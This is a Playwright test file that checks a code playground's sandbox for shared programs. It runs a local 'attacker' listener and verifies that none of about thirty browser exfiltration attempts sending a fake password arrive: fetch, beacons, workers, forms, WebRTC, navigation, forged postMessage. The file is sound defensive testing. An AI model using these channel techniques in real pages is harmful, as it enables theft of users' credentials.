import {createSocket, type Socket} from 'node:dgram';
import {createServer, type Server} from 'node:http';
import {expect, test, type Page} from '@playwright/test';

import {NAVIGATED_AWAY} from '../../../src/runner/protocol';
import {encodeSharedProgram} from '../../../src/lib/shared-program';
import {PROJECT_INFO_PATH} from '../../../src/lib/project-info';
import {storeFrameworkCookie} from '../support/framework';
import {SITE_ORIGIN} from '../support/origins';

// A shared program is the attacker's code: whatever the reader types into what it draws, it must
// reach another place by no channel. The "attacker" listens on another loopback port, over HTTP
// (every request and WebSocket upgrade) and UDP (WebRTC's STUN packets) on the same number.

const ATTACKER_PORT = Number(new URL(SITE_ORIGIN).port) + 10;
const ATTACKER = `http://127.0.0.1:${ATTACKER_PORT}`;

test.use({viewport: {width: 800, height: 600}});
test.setTimeout(120_000);
// One attacker for the file: its tests run one after another in one worker.
test.describe.configure({mode: 'serial'});

let server: Server;
let udp: Socket;
const received: string[] = [];

test.beforeAll(async () => {
  server = createServer((request, response) => {
    received.push(`${request.method} ${request.url}`);
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.end('collected');
  });
  server.on('upgrade', (request, socket) => {
    received.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  udp = createSocket('udp4');
  udp.on('message', (packet) => received.push(`UDP ${packet.length} bytes`));
  await Promise.all([
    new Promise<void>((resolve) => server.listen(ATTACKER_PORT, '127.0.0.1', resolve)),
    new Promise<void>((resolve) => udp.bind(ATTACKER_PORT, '127.0.0.1', resolve)),
  ]);
});

test.afterAll(async () => {
  udp.close();
  await new Promise((resolve) => server.close(resolve));
});

test.beforeEach(async ({page, context}) => {
  received.length = 0;
  await storeFrameworkCookie(context, SITE_ORIGIN, 'javascript');
  await page.route(`**${PROJECT_INFO_PATH}`, (route) => route.fulfill({json: {email: 'ada@example.com'}}));
});

/** Where a program sends "the credentials the reader typed" by `channel`. */
const target = (channel: string) => `${ATTACKER}/collect?channel=${channel}&password=hunter2`;

const PEER = `async (Peer) => {
  const peer = new Peer({ iceServers: [{ urls: 'stun:127.0.0.1:${ATTACKER_PORT}?password=hunter2' }] });
  peer.createDataChannel('hunter2');
  await peer.setLocalDescription(await peer.createOffer());
}`;

/** Every channel but navigating the frame itself, each tried in turn, then a last line. */
const EVERY_OTHER_CHANNEL = `const target = (channel) => ${JSON.stringify(ATTACKER)} + '/collect?channel=' + channel + '&password=hunter2';
const peer = ${PEER};
const nested = (setUp) => { const frame = document.createElement('iframe'); setUp(frame); document.body.append(frame); return frame; };
const element = (tag, properties) => { const made = Object.assign(document.createElement(tag), properties); document.body.append(made); return made; };
const tries = {
  fetch: () => fetch(target('fetch')),
  xhr: () => { const request = new XMLHttpRequest(); request.open('GET', target('xhr')); request.send(); },
  image: () => { new Image().src = target('image'); },
  script: () => element('script', { src: target('script') }),
  stylesheet: () => element('link', { rel: 'stylesheet', href: target('stylesheet') }),
  prefetch: () => element('link', { rel: 'prefetch', href: target('prefetch') }),
  cssBackground: () => { document.body.style.backgroundImage = 'url(' + target('css') + ')'; },
  font: () => new FontFace('x', 'url(' + target('font') + ')').load(),
  video: () => element('video', { src: target('video') }),
  webSocket: () => new WebSocket(target('websocket').replace('http:', 'ws:')),
  eventSource: () => new EventSource(target('eventsource')),
  beacon: () => navigator.sendBeacon(target('beacon'), 'hunter2'),
  ping: () => element('a', { href: '#', ping: target('ping') }).click(),
  blobWorker: () => new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(target('worker-fetch')) + '); importScripts(' + JSON.stringify(target('worker-import')) + ');'], { type: 'text/javascript' }))),
  workerFromUrl: () => new Worker(target('worker-url')),
  sharedWorker: () => new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(target('shared-worker')) + ');'], { type: 'text/javascript' }))),
  nestedFrame: () => nested((frame) => { frame.src = target('nested-frame'); }),
  form: () => { const form = element('form', { method: 'post', action: target('form') }); form.append(Object.assign(document.createElement('input'), { name: 'password', value: 'hunter2' })); form.submit(); },
  formToNewWindow: () => { const form = element('form', { method: 'get', action: target('form-blank'), target: '_blank' }); form.submit(); },
  windowOpen: () => window.open(target('window-open')),
  linkToNewWindow: () => element('a', { href: target('link-blank'), target: '_blank' }).click(),
  linkToTop: () => element('a', { href: target('link-top'), target: '_top' }).click(),
  topLocation: () => { window.top.location.href = target('top-location'); },
  webRtc: () => peer(RTCPeerConnection),
  webRtcPrefixed: () => peer(webkitRTCPeerConnection),
  webRtcFromBlankFrame: () => peer(nested(() => {}).contentWindow.RTCPeerConnection),
  webRtcInSrcdocFrame: () => nested((frame) => { frame.srcdoc = '<script>(' + peer + ')(RTCPeerConnection)<' + '/script>'; }),
  webRtcInJavascriptUrlFrame: () => nested((frame) => { frame.src = 'javascript:' + JSON.stringify('<script>(' + peer + ')(RTCPeerConnection)<' + '/script>'); }),
  webTransport: () => new WebTransport(target('webtransport').replace('http:', 'https:')),
};
console.log('RTCPeerConnection is ' + typeof RTCPeerConnection);
for (const [name, attempt] of Object.entries(tries)) {
  try {
    Promise.resolve(attempt()).catch(() => {});
    console.log(name + ': tried');
  } catch (error) {
    console.log(name + ': refused (' + error.name + ')');
  }
}
setTimeout(() => console.log('every channel tried'), 2000);
`;

async function shared(code: string): Promise<string> {
  return encodeSharedProgram({framework: 'javascript', example: null, code});
}

const consoleLog = (page: Page) => page.getByRole('log', {name: 'Console'});

test('a shared program reaches another place by no channel: requests, sockets, workers, forms, windows, WebRTC', async ({
  page,
}) => {
  await page.goto(`/playground${await shared(EVERY_OTHER_CHANNEL)}`);
  await expect(consoleLog(page)).toContainText('every channel tried', {timeout: 90_000});
  await expect(consoleLog(page)).toContainText('RTCPeerConnection is undefined');
  await expect(consoleLog(page)).toContainText('webRtcInJavascriptUrlFrame:');
  // Anything still in flight lands well within this.
  await page.waitForTimeout(1500);
  expect(received).toEqual([]);
  expect(page.url()).toMatch(new RegExp(`^${SITE_ORIGIN}/playground`));
  expect(page.context().pages()).toHaveLength(1);
});

const NAVIGATIONS = {
  'location.href': `location.href = ${JSON.stringify(target('href'))};`,
  'location.replace': `location.replace(${JSON.stringify(target('replace'))});`,
  'location.assign': `location.assign(${JSON.stringify(target('assign'))});`,
  'a link clicked': `const link = document.createElement('a'); link.href = ${JSON.stringify(target('link'))}; document.body.append(link); link.click();`,
  'a meta refresh': `const refresh = document.createElement('meta'); refresh.httpEquiv = 'refresh'; refresh.content = ${JSON.stringify(`0; url=${target('refresh')}`)}; document.head.append(refresh);`,
};

test('a program that navigates its frame sends nothing, and its run ends with the reason shown above the frame', async ({
  page,
}) => {
  for (const [how, code] of Object.entries(NAVIGATIONS)) {
    await page.goto('about:blank');
    await page.goto(`/playground/view${await shared(`console.log('phishing form drawn');\n${code}\n`)}`);
    await expect(page.getByRole('note', {name: 'About this program'}), how).toContainText(
      'This code comes from a shared link',
    );
    await expect(page.locator('[data-runner-status="error"]'), how).toContainText(NAVIGATED_AWAY, {timeout: 60_000});
    await expect(page.locator('iframe'), how).toHaveCount(0);
    expect(received, how).toEqual([]);
  }
});

test('after its frame navigates, the page the frame went to gets nothing and is not heard', async ({page}) => {
  const reports: string[] = [];
  await page.exposeFunction('reportToTest', (text: string) => reports.push(text));
  // A page of the site's own origin, which frame-src lets the frame load: the worst case.
  await page.route('**/forged-runner.html', (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<script>
        window.reportToTest('loaded');
        addEventListener('message', (event) => window.reportToTest('received ' + JSON.stringify(event.data)));
        parent.postMessage({type: 'ready'}, '*');
        parent.postMessage({type: 'console', level: 'log', text: 'forged line'}, '*');
        parent.postMessage({type: 'error', phase: 'runtime', message: 'forged error'}, '*');
      </script>`,
    }),
  );
  await page.goto(`/playground${await shared("console.log('before');\nlocation.href = '/forged-runner.html';\n")}`);
  await expect(consoleLog(page)).toContainText(NAVIGATED_AWAY, {timeout: 90_000});
  await expect(page.locator('iframe[sandbox]')).toHaveCount(0);
  expect(reports).toEqual(['loaded']);
  await page.waitForTimeout(500);
  expect(reports).toEqual(['loaded']);
  await expect(consoleLog(page)).not.toContainText('forged');
  await expect(page.locator('[data-runner-status]')).not.toContainText('forged');
});
